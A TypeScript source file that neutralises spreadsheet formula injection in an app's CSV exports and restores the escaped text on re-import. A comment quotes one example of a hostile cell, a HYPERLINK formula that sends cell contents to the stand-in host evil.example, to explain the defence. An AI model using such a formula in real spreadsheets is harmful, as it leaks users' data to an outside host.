// CSV fields that a spreadsheet will not run as formulas, for every CSV this app writes (the
// dashboard's statistics, the question bank's export). OWASP's "CSV Injection" advice: a text cell
// that starts with = + - @, a tab or a carriage return is prefixed with a single quote and quoted, so
// `=HYPERLINK("http://evil.example/?leak="&A1)` in a question is shown as text, never evaluated.
// A line feed is treated the same way because the importer turns a leading CR into LF before reading.
//
// Text that already starts with quotes before such a character gets one more, so restoreFormulaText
// (used when the bank CSV is imported again) removes exactly the quote that was added, and only that:
// export then import gives back the same text.
//
// Numbers are written as they are: they are the app's own figures (a discrimination of -0.25), not
// text anyone typed, and a quote would turn them into text in the spreadsheet.

// Anchored at the start, quotes then one character from a class without the quote: matched in one pass.
const FORMULA_START = /^'*[=+\-@\t\r\n]/;
const NEUTRALISED_FORMULA = /^'+[=+\-@\t\r\n]/;

export type CsvValue = string | number | null | undefined;

/** The text, with a leading quote when a spreadsheet could take it for a formula. */
export function neutraliseFormulaText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** The inverse of neutraliseFormulaText, for a cell read from one of our CSV files. */
export function restoreFormulaText(text: string): string {
  return NEUTRALISED_FORMULA.test(text) ? text.slice(1) : text;
}

/** One CSV field: quoted when it holds a comma, quote or line break, or when it was neutralised. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return Number.isFinite(value) ? String(value) : "";
  const text = neutraliseFormulaText(value);
  return text !== value || /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV line (without its line break). */
export function csvLine(values: readonly CsvValue[]): string {
  return values.map(csvField).join(",");
}
